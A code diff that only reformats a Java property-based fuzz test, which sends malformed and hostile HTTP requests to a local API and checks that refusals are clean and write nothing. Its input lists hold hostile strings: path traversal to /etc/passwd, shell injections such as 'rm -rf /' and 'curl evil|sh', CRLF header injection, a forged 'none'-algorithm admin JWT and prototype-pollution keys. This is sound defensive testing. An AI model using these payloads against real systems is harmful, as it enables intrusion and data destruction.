@@ -38,10 +38,10 @@ import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
 import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
 
 /**
- * Malformed and hostile requests — bodies, paths, queries and headers — at every route, sent as
- * raw bytes over a socket so nothing is tidied up on the way: the runtime never answers 5xx, every
- * refusal is a problem document, a refused request writes nothing to any table, and no container
- * is made. {@code -Djqwik.tries.default=N} runs more than the CI default (junit-platform.properties).
+ * Malformed and hostile requests — bodies, paths, queries and headers — at every route, sent as raw
+ * bytes over a socket so nothing is tidied up on the way: the runtime never answers 5xx, every
+ * refusal is a problem document, a refused request writes nothing to any table, and no container is
+ * made. {@code -Djqwik.tries.default=N} runs more than the CI default (junit-platform.properties).
  */
 class HostileRequestsPropertyTest {
   private static LocalRuntime runtime;
@@ -50,18 +50,32 @@ class HostileRequestsPropertyTest {
   private static String project;
   private static String owner;
   private static String other;
-  /** Users whose data a 2xx changed: what happens to it later (a host's reports) is not a write of a refusal. */
+
+  /**
+   * Users whose data a 2xx changed: what happens to it later (a host's reports) is not a write of a
+   * refusal.
+   */
   private static final Set<String> dirtyUsers = new HashSet<>();
+
   private static final Set<String> acceptedWorkspaces = new HashSet<>();
   private static Map<String, Integer> baseline;
   private static int requests;
 
   /** One hostile request. */
-  record Request(String method, String target, Map<String, String> headers, byte[] body, String label) {
+  record Request(
+      String method, String target, Map<String, String> headers, byte[] body, String label) {
     @Override
     public String toString() {
       String shownBody = new String(body, StandardCharsets.UTF_8);
-      return label + ": " + method + " " + abbreviate(target) + " " + abbreviate(headers.toString()) + " " + abbreviate(shownBody);
+      return label
+          + ": "
+          + method
+          + " "
+          + abbreviate(target)
+          + " "
+          + abbreviate(headers.toString())
+          + " "
+          + abbreviate(shownBody);
     }
   }
 
@@ -82,7 +96,8 @@ class HostileRequestsPropertyTest {
         DynamoDbClient.builder()
             .endpointOverride(runtime.dynamoDbEndpoint())
             .region(Region.US_EAST_1)
-            .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create("local", "local")))
+            .credentialsProvider(
+                StaticCredentialsProvider.create(AwsBasicCredentials.create("local", "local")))
             .build();
     baseline = fingerprint();
   }
@@ -94,16 +109,23 @@ class HostileRequestsPropertyTest {
       List<Container> strays = new ArrayList<>();
       for (String hostId : fleet.hostIds()) {
         for (Container c :
-            fleet.docker(hostId).listContainersCmd().withShowAll(true).withLabelFilter(Map.of(ContainerLabels.MANAGED, "true")).exec()) {
+            fleet
+                .docker(hostId)
+                .listContainersCmd()
+                .withShowAll(true)
+                .withLabelFilter(Map.of(ContainerLabels.MANAGED, "true"))
+                .exec()) {
           String user = c.getLabels().get(ContainerLabels.USER_ID);
-          if ((user.equals(owner) || user.equals(other)) && !acceptedWorkspaces.contains(c.getLabels().get(ContainerLabels.WORKSPACE_ID))) {
+          if ((user.equals(owner) || user.equals(other))
+              && !acceptedWorkspaces.contains(c.getLabels().get(ContainerLabels.WORKSPACE_ID))) {
             strays.add(c);
           }
         }
       }
       assertThat(strays).as("containers made by refused requests").isEmpty();
       assertThat(requests).isPositive();
-      // Containers that accepted requests made are removed with the fleet (its users are the scenario's).
+      // Containers that accepted requests made are removed with the fleet (its users are the
+      // scenario's).
     } finally {
       dynamo.close();
       SharedRuntime.release();
@@ -111,7 +133,8 @@ class HostileRequestsPropertyTest {
   }
 
   @Property
-  void aHostileRequestIsNever5xxAndARefusalWritesNothing(@ForAll("hostileRequests") Request request) throws IOException {
+  void aHostileRequestIsNever5xxAndARefusalWritesNothing(@ForAll("hostileRequests") Request request)
+      throws IOException {
     requests++;
     var reply = send(request);
 
@@ -126,11 +149,15 @@ class HostileRequestsPropertyTest {
     }
     if (reply.status() >= 400) {
       if (!unparsable) {
-        assertThat(reply.contentType()).as(request + " -> " + reply.body()).isEqualTo("application/problem+json");
+        assertThat(reply.contentType())
+            .as(request + " -> " + reply.body())
+            .isEqualTo("application/problem+json");
         assertThat(reply.body()).doesNotContain("Exception").doesNotContain("at io.a4c");
       }
       Map<String, Integer> after = fingerprint();
-      assertThat(after).as("tables after the refused " + request + " -> " + reply.body()).isEqualTo(baseline);
+      assertThat(after)
+          .as("tables after the refused " + request + " -> " + reply.body())
+          .isEqualTo(baseline);
     } else {
       // Accepted by chance (a mutation that left the request valid): its effects are allowed.
       dirtyUsers.add(owner);
@@ -150,8 +177,18 @@ class HostileRequestsPropertyTest {
     Arbitrary<ApiRoutes.Route> routes = Arbitraries.of(ApiRoutes.ALL);
     // Request lines the HTTP server itself cannot parse are its business, not the API's: methods
     // and paths are always one token (spaces in path values go %-encoded).
-    Arbitrary<String> methods = Arbitraries.of("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "get", "CONNECT1");
-    return Combinators.combine(routes, methods, paths(), queries(), tokens(), headers(), bodies(), Arbitraries.integers().between(0, 9))
+    Arbitrary<String> methods =
+        Arbitraries.of(
+            "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "get", "CONNECT1");
+    return Combinators.combine(
+            routes,
+            methods,
+            paths(),
+            queries(),
+            tokens(),
+            headers(),
+            bodies(),
+            Arbitraries.integers().between(0, 9))
         .as(
             (route, method, pathValues, query, token, extraHeaders, body, mode) -> {
               String chosenMethod = mode < 7 ? route.method() : method;
@@ -166,58 +203,131 @@ class HostileRequestsPropertyTest {
               if (token != null) {
                 headers.put("authorization", token);
               }
-              return new Request(chosenMethod, (path + query).replace(" ", "%20"), headers, body.getValue(), body.getKey());
+              return new Request(
+                  chosenMethod,
+                  (path + query).replace(" ", "%20"),
+                  headers,
+                  body.getValue(),
+                  body.getKey());
             });
   }
 
   private static Arbitrary<String> hostileText() {
     return Arbitraries.oneOf(
         Arbitraries.of(
-            "", " ", "%00", "%zz", "%", "..", "%2e%2e%2f%2e%2e", "..%2F..%2Fetc%2Fpasswd", "%2F", "a%20b", "%0d%0aX-Injected:%201",
-            "$(reboot)", "%60id%60", "%3Bid", "%7C%7C", "ws-0000000000000000000000zzzz", "ws-ZZZZ", "%E2%80%AE", "%FF%FE",
-            "%C0%AF", "a".repeat(3000), "%u0000", "admin", "*", "null", "undefined", "-1", "1e309"),
-        Arbitraries.strings().withCharRange('!', '~').excludeChars('?', '#', '/', ' ', '%').ofMaxLength(40),
-        Arbitraries.strings().ofMaxLength(20).map(s -> java.net.URLEncoder.encode(s, StandardCharsets.UTF_8)));
+            "",
+            " ",
+            "%00",
+            "%zz",
+            "%",
+            "..",
+            "%2e%2e%2f%2e%2e",
+            "..%2F..%2Fetc%2Fpasswd",
+            "%2F",
+            "a%20b",
+            "%0d%0aX-Injected:%201",
+            "$(reboot)",
+            "%60id%60",
+            "%3Bid",
+            "%7C%7C",
+            "ws-0000000000000000000000zzzz",
+            "ws-ZZZZ",
+            "%E2%80%AE",
+            "%FF%FE",
+            "%C0%AF",
+            "a".repeat(3000),
+            "%u0000",
+            "admin",
+            "*",
+            "null",
+            "undefined",
+            "-1",
+            "1e309"),
+        Arbitraries.strings()
+            .withCharRange('!', '~')
+            .excludeChars('?', '#', '/', ' ', '%')
+            .ofMaxLength(40),
+        Arbitraries.strings()
+            .ofMaxLength(20)
+            .map(s -> java.net.URLEncoder.encode(s, StandardCharsets.UTF_8)));
   }
 
   private static Arbitrary<Map<String, String>> paths() {
-    Arbitrary<String> user = Arbitraries.oneOf(Arbitraries.just(owner), Arbitraries.just(other), hostileText());
-    Arbitrary<String> workspace = Arbitraries.oneOf(Arbitraries.just("ws-0000000000000000000000zzzz"), hostileText());
+    Arbitrary<String> user =
+        Arbitraries.oneOf(Arbitraries.just(owner), Arbitraries.just(other), hostileText());
+    Arbitrary<String> workspace =
+        Arbitraries.oneOf(Arbitraries.just("ws-0000000000000000000000zzzz"), hostileText());
     Arbitrary<String> projectName = Arbitraries.oneOf(Arbitraries.just(project), hostileText());
     Arbitrary<String> host = Arbitraries.oneOf(Arbitraries.of("h1", "h9"), hostileText());
     return Combinators.combine(user, workspace, projectName, host, hostileText())
-        .as((u, w, p, h, junk) -> Map.of("userId", u, "workspaceId", w, "projectName", p, "hostId", h, "junk", junk));
+        .as(
+            (u, w, p, h, junk) ->
+                Map.of("userId", u, "workspaceId", w, "projectName", p, "hostId", h, "junk", junk));
   }
 
   private static Arbitrary<String> queries() {
     Arbitrary<String> pair =
-        Combinators.combine(Arbitraries.of("limit", "nextToken", "force", "userId", "x", "limit", ""), hostileText().injectNull(0.1))
+        Combinators.combine(
+                Arbitraries.of("limit", "nextToken", "force", "userId", "x", "limit", ""),
+                hostileText().injectNull(0.1))
             .as((name, value) -> value == null ? name : name + "=" + value);
-    Arbitrary<String> numbers = Arbitraries.of("limit=0", "limit=-1", "limit=101", "limit=1.5", "limit=99999999999999999999", "force=true", "force=1");
+    Arbitrary<String> numbers =
+        Arbitraries.of(
+            "limit=0",
+            "limit=-1",
+            "limit=101",
+            "limit=1.5",
+            "limit=99999999999999999999",
+            "force=true",
+            "force=1");
     return Arbitraries.oneOf(
         Arbitraries.just(""),
         pair.list().ofMinSize(1).ofMaxSize(4).map(pairs -> "?" + String.join("&", pairs)),
         numbers.map(q -> "?" + q),
-        Arbitraries.of("?", "?&&", "?=", "?%zz=1", "?limit=1&limit=2", "?nextToken=" + "A".repeat(5000)));
+        Arbitraries.of(
+            "?", "?&&", "?=", "?%zz=1", "?limit=1&limit=2", "?nextToken=" + "A".repeat(5000)));
   }
 
   private static Arbitrary<String> tokens() {
     return Arbitraries.oneOf(
-        Arbitraries.of("owner", "admin", "other").map(
-            who -> "Bearer " + (who.equals("owner") ? api.tokenOf(owner) : who.equals("admin") ? api.adminToken() : api.tokenOf(other))),
+        Arbitraries.of("owner", "admin", "other")
+            .map(
+                who ->
+                    "Bearer "
+                        + (who.equals("owner")
+                            ? api.tokenOf(owner)
+                            : who.equals("admin") ? api.adminToken() : api.tokenOf(other))),
         Arbitraries.of(
-            "Bearer", "Bearer ", "bearer x.y.z", "Basic YWRtaW46YWRtaW4=", "Bearer " + "e".repeat(9000), "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290IiwiYWRtaW4iOnRydWV9.",
-            "Bearer ../../etc/passwd", "Bearer \u00e9\u00e9"),
+            "Bearer",
+            "Bearer ",
+            "bearer x.y.z",
+            "Basic YWRtaW46YWRtaW4=",
+            "Bearer " + "e".repeat(9000),
+            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290IiwiYWRtaW4iOnRydWV9.",
+            "Bearer ../../etc/passwd",
+            "Bearer \u00e9\u00e9"),
         Arbitraries.just(null));
   }
 
   private static Arbitrary<Map<String, String>> headers() {
     Arbitrary<String> contentTypes =
         Arbitraries.of(
-            "application/json", "application/json; charset=utf-8", "text/plain", "application/xml", "application/x-www-form-urlencoded",
-            "multipart/form-data; boundary=x", "APPLICATION/JSON", "application/jsonp", "", "*/*");
-    Arbitrary<String> keys = Arbitraries.oneOf(hostileText(), Arbitraries.of("k-1", "a".repeat(129), "key with spaces"));
-    return Combinators.combine(contentTypes.injectNull(0.2), keys.injectNull(0.5), Arbitraries.integers().between(0, 3))
+            "application/json",
+            "application/json; charset=utf-8",
+            "text/plain",
+            "application/xml",
+            "application/x-www-form-urlencoded",
+            "multipart/form-data; boundary=x",
+            "APPLICATION/JSON",
+            "application/jsonp",
+            "",
+            "*/*");
+    Arbitrary<String> keys =
+        Arbitraries.oneOf(hostileText(), Arbitraries.of("k-1", "a".repeat(129), "key with spaces"));
+    return Combinators.combine(
+            contentTypes.injectNull(0.2),
+            keys.injectNull(0.5),
+            Arbitraries.integers().between(0, 3))
         .as(
             (type, key, extra) -> {
               Map<String, String> headers = new LinkedHashMap<>();
@@ -239,23 +349,64 @@ class HostileRequestsPropertyTest {
 
   /** Bodies with a label saying what they are. */
   private static Arbitrary<Map.Entry<String, byte[]>> bodies() {
-    String create = "{\"projectName\": \"" + project + "\", \"parentName\": \"main\", \"arch\": \"amd64\"}";
+    String create =
+        "{\"projectName\": \"" + project + "\", \"parentName\": \"main\", \"arch\": \"amd64\"}";
     String projectJson =
         "{\"source\": {\"type\": \"git\", \"url\": \"https://git.example.com/x.git\"}, \"baseImage\": \"a4c-base:busybox\","
             + " \"tools\": [\"curl\"], \"parents\": [\"main\"], \"setup\": [\"true\"], \"workspaceSize\": {\"cpus\": 1, \"memoryMb\": 256, \"pids\": 256}}";
-    String image = "{\"parentName\": \"main\", \"arch\": \"amd64\", \"change\": \"9\", \"imageRef\": \"a4c-base:busybox\"}";
-    Arbitrary<String> templates = Arbitraries.of(create, projectJson, image, "{\"status\": \"DRAINING\"}");
+    String image =
+        "{\"parentName\": \"main\", \"arch\": \"amd64\", \"change\": \"9\", \"imageRef\": \"a4c-base:busybox\"}";
+    Arbitrary<String> templates =
+        Arbitraries.of(create, projectJson, image, "{\"status\": \"DRAINING\"}");
     Arbitrary<String> hostileValue =
         Arbitraries.oneOf(
             hostileText().map(s -> "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\""),
             Arbitraries.of(
-                "null", "true", "-1", "0", "1e400", "-0", "NaN", "[]", "{}", "[null]", "[\"a; rm -rf /\"]", "{\"$ne\": 1}",
-                "\"\\u0000\"", "\"\\n RUN curl evil|sh\"", "\"" + "x".repeat(2000) + "\"", "9223372036854775808", "[" + "1,".repeat(200) + "1]"));
+                "null",
+                "true",
+                "-1",
+                "0",
+                "1e400",
+                "-0",
+                "NaN",
+                "[]",
+                "{}",
+                "[null]",
+                "[\"a; rm -rf /\"]",
+                "{\"$ne\": 1}",
+                "\"\\u0000\"",
+                "\"\\n RUN curl evil|sh\"",
+                "\"" + "x".repeat(2000) + "\"",
+                "9223372036854775808",
+                "[" + "1,".repeat(200) + "1]"));
     Arbitrary<Map.Entry<String, byte[]>> mutated =
-        Combinators.combine(templates, Arbitraries.of(
-                "projectName", "parentName", "arch", "name", "change", "source", "url", "type", "depotPath", "baseImage", "tools",
-                "parents", "setup", "workspaceSize", "cpus", "memoryMb", "pids", "quotas", "imageRef", "status", "privileged", "__proto__"),
-            hostileValue, Arbitraries.integers().between(0, 2))
+        Combinators.combine(
+                templates,
+                Arbitraries.of(
+                    "projectName",
+                    "parentName",
+                    "arch",
+                    "name",
+                    "change",
+                    "source",
+                    "url",
+                    "type",
+                    "depotPath",
+                    "baseImage",
+                    "tools",
+                    "parents",
+                    "setup",
+                    "workspaceSize",
+                    "cpus",
+                    "memoryMb",
+                    "pids",
+                    "quotas",
+                    "imageRef",
+                    "status",
+                    "privileged",
+                    "__proto__"),
+                hostileValue,
+                Arbitraries.integers().between(0, 2))
             .as(
                 (template, field, value, how) -> {
                   String body =
@@ -263,17 +414,40 @@ class HostileRequestsPropertyTest {
                         case 0 ->
                             template.replaceFirst(
                                 "\"" + field + "\": (\"[^\"]*\"|\\{[^}]*\\}|\\[[^]]*\\]|[0-9.]+)",
-                                java.util.regex.Matcher.quoteReplacement("\"" + field + "\": " + value));
-                        case 1 -> template.substring(0, template.length() - 1) + ", \"" + field + "\": " + value + "}";
+                                java.util.regex.Matcher.quoteReplacement(
+                                    "\"" + field + "\": " + value));
+                        case 1 ->
+                            template.substring(0, template.length() - 1)
+                                + ", \""
+                                + field
+                                + "\": "
+                                + value
+                                + "}";
                         default -> template.replace("{\"cpus\": 1", "{\"cpus\": " + value);
                       };
                   return Map.entry("mutated " + field, body.getBytes(StandardCharsets.UTF_8));
                 });
     Arbitrary<Map.Entry<String, byte[]>> structural =
         Arbitraries.of(
-                "", "{", "}", "[", "null", "true", "\"string\"", "123", "{\"a\":", "{}", "[]", "{\"projectName\": \"" + project + "\"} trailing",
-                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000), "{\"projectName\": \"a\", \"projectName\": \"b\"}",
-                "{\"name\": \"" + "x".repeat(70_000) + "\"}", "\uFEFF{}", "{'single': 'quotes'}", "{\"a\": 1,}")
+                "",
+                "{",
+                "}",
+                "[",
+                "null",
+                "true",
+                "\"string\"",
+                "123",
+                "{\"a\":",
+                "{}",
+                "[]",
+                "{\"projectName\": \"" + project + "\"} trailing",
+                "[".repeat(5000) + "]".repeat(5000),
+                "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
+                "{\"projectName\": \"a\", \"projectName\": \"b\"}",
+                "{\"name\": \"" + "x".repeat(70_000) + "\"}",
+                "\uFEFF{}",
+                "{'single': 'quotes'}",
+                "{\"a\": 1,}")
             .map(s -> Map.entry("structural", s.getBytes(StandardCharsets.UTF_8)));
     Arbitrary<Map.Entry<String, byte[]>> binary =
         Arbitraries.bytes().array(byte[].class).ofMaxSize(300).map(b -> Map.entry("bytes", b));
@@ -291,7 +465,9 @@ class HostileRequestsPropertyTest {
       var head = new StringBuilder();
       head.append(request.method()).append(' ').append(request.target()).append(" HTTP/1.1\r\n");
       head.append("host: 127.0.0.1\r\nconnection: close\r\n");
-      request.headers().forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
+      request
+          .headers()
+          .forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
       head.append("content-length: ").append(request.body().length).append("\r\n\r\n");
       byte[] raw;
       try {
@@ -311,12 +487,16 @@ class HostileRequestsPropertyTest {
       String[] statusLine = text.substring(0, lineEnd).split(" ", 3);
       int bodyStart = text.indexOf("\r\n\r\n");
       String contentType = null;
-      for (String line : text.substring(lineEnd + 2, Math.max(lineEnd + 2, bodyStart)).split("\r\n")) {
+      for (String line :
+          text.substring(lineEnd + 2, Math.max(lineEnd + 2, bodyStart)).split("\r\n")) {
         if (line.toLowerCase().startsWith("content-type:")) {
           contentType = line.substring(13).trim();
         }
       }
-      return new Reply(Integer.parseInt(statusLine[1]), contentType, bodyStart < 0 ? "" : text.substring(bodyStart + 4));
+      return new Reply(
+          Integer.parseInt(statusLine[1]),
+          contentType,
+          bodyStart < 0 ? "" : text.substring(bodyStart + 4));
     }
   }
 
@@ -342,7 +522,8 @@ class HostileRequestsPropertyTest {
       if (table.equals(LocalTables.HOSTS)) {
         continue;
       }
-      for (Map<String, AttributeValue> item : dynamo.scanPaginator(b -> b.tableName(table).consistentRead(true)).items()) {
+      for (Map<String, AttributeValue> item :
+          dynamo.scanPaginator(b -> b.tableName(table).consistentRead(true)).items()) {
         AttributeValue user = item.get("userId");
         if (user != null && dirtyUsers.contains(user.s())) {
           continue;
@@ -351,7 +532,8 @@ class HostileRequestsPropertyTest {
         if (key != null && dirtyUsers.stream().anyMatch(u -> key.s().startsWith(u + "#"))) {
           continue;
         }
-        items.put(table + " " + new java.util.TreeMap<>(item).keySet() + keyOf(item), item.hashCode());
+        items.put(
+            table + " " + new java.util.TreeMap<>(item).keySet() + keyOf(item), item.hashCode());
       }
     }
     return items;
@@ -359,7 +541,16 @@ class HostileRequestsPropertyTest {
 
   private static String keyOf(Map<String, AttributeValue> item) {
     var parts = new ArrayList<String>();
-    for (String name : List.of("userId", "workspaceId", "projectName", "imageKey", "change", "idempotencyKey", "stream", "entryId")) {
+    for (String name :
+        List.of(
+            "userId",
+            "workspaceId",
+            "projectName",
+            "imageKey",
+            "change",
+            "idempotencyKey",
+            "stream",
+            "entryId")) {
       if (item.containsKey(name)) {
         parts.add(item.get(name).s());
       }
